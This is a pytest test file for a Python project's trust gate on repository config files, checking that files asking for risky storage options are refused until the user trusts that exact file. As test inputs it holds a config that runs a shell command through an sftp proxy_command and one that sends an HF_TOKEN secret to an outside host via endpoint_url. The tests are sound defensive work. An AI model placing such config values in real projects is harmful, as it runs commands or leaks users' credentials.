"""A project's file gets what only the user may allow once the user has allowed it: there, and as it was then."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import replicate
from replicate_core.config import load
from replicate_core.storage.trust import Request, forget, is_trusted, trust, trusted
from replicate_core.workspace import Workspace

EVIL = 'storage: sftp://host.invalid/x\nstorage_options: {proxy_command: "touch ran"}\n'
SENDING = "storage: s3://bucket\nstorage_options: {endpoint_url: 'http://host.invalid/${HF_TOKEN}'}\n"
MINE = "storage: s3://bucket\nstorage_options: {endpoint_url: 'http://localhost:9000', secret: '${MY_SECRET}'}\n"


@pytest.fixture(autouse=True)
def state(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("REPLICATE_STATE", str(tmp_path / "state"))
    monkeypatch.delenv("REPLICATE_TRUST", raising=False)
    return tmp_path / "state"


def asking(project: Path, text: str = MINE, name: str = "replicate.yaml") -> Request:
    (project / name).write_text(text)
    found = load(project)
    assert found.file is not None
    return Request(found.file, found.storage, found.storage_options)


@pytest.mark.parametrize("text", [EVIL, SENDING, MINE])
def test_a_file_that_asks_for_more_is_refused_with_the_reason_and_the_way_to_allow_it(project: Path, text: str) -> None:
    asking(project, text)
    file = project / "replicate.yaml"
    with pytest.raises(
        replicate.ConfigInvalid, match=rf"{file} asks for something .* run `replicate trust {file}` once"
    ):
        replicate.Project()
    with pytest.raises(replicate.ConfigInvalid, match=f"set REPLICATE_TRUST={project}"):
        replicate.init()
    assert [path.name for path in project.iterdir()] == ["replicate.yaml"]


def test_a_file_that_the_command_line_names_is_refused_too(project: Path, tmp_path: Path) -> None:
    (tmp_path / "other.yaml").write_text(EVIL)
    with pytest.raises(replicate.ConfigInvalid, match=r"other\.yaml asks for .*proxy_command"):
        replicate.Project(storage="../other.yaml")


def test_what_is_trusted_is_taken_until_its_storage_changes(project: Path) -> None:
    trust(asking(project))
    assert Workspace().storage_options["secret"] == "${MY_SECRET}"
    assert is_trusted(asking(project, f"quiet: true\n{MINE}")), "what has nothing to do with the storage may change"
    for other in (MINE.replace("localhost", "evil"), MINE.replace("bucket", "other"), f"{MINE[:-2]}, anon: true}}\n"):
        asking(project, other)
        with pytest.raises(replicate.ConfigInvalid, match="asks for something that only you may allow"):
            replicate.Project()
    assert is_trusted(asking(project)), "what was trusted still is"


def test_a_copy_in_another_place_is_not_trusted(project: Path, tmp_path: Path) -> None:
    trust(asking(project))
    (tmp_path / "clone").mkdir()
    assert not is_trusted(asking(tmp_path / "clone"))


def test_trust_is_taken_back(project: Path) -> None:
    request = asking(project)
    trust(request)
    assert trusted() == [request.file]
    forget(request.file)
    assert trusted() == []
    assert not is_trusted(request)
    with pytest.raises(replicate.NotFound, match="is not trusted"):
        forget(request.file)


def test_what_is_remembered_is_private(project: Path, state: Path) -> None:
    trust(asking(project))
    (entry,) = (state / "trusted").iterdir()
    assert entry.stat().st_mode & 0o777 == 0o600
    assert entry.parent.stat().st_mode & 0o777 == 0o700


def test_what_others_may_have_written_is_not_believed(project: Path, state: Path) -> None:
    request = asking(project)
    trust(request)
    (entry,) = (state / "trusted").iterdir()
    for path, mode in ((entry, 0o606), (entry.parent, 0o777)):
        before = path.stat().st_mode
        path.chmod(mode)
        assert not is_trusted(request)
        path.chmod(before)
    assert is_trusted(request)
    for damaged in ("{", '{"digest": 1}'):
        entry.write_text(damaged)
        assert not is_trusted(request)
        assert trusted() == []


def test_a_job_that_can_not_ask_names_the_directories_that_it_trusts(
    project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    request = asking(project)
    for named, expected in (
        (str(project), True),
        (os.pathsep.join([str(tmp_path / "other"), f"{project}/"]), True),
        (str(tmp_path), False),
        (".", False),
        ("", False),
    ):
        monkeypatch.setenv("REPLICATE_TRUST", named)
        assert is_trusted(request) == expected, named


def test_options_given_in_code_need_no_trust_and_those_of_the_file_are_not_used(project: Path) -> None:
    asking(project, EVIL)
    told = Workspace(storage_options={"client_keys": ["/key"]})
    assert told.storage_options == {"client_keys": ["/key"]}
    assert Workspace(storage="s3://bucket").storage_options == {}, "another kind of storage"
    with pytest.raises(replicate.ConfigInvalid, match="proxy_command"):
        replicate.Project(storage="sftp://other/x")


def test_options_of_a_local_storage_are_not_used_and_need_no_trust(project: Path) -> None:
    asking(project, "storage: runs\nstorage_options: {proxy_command: x}\n")
    assert len(replicate.Project().experiments.list()) == 0
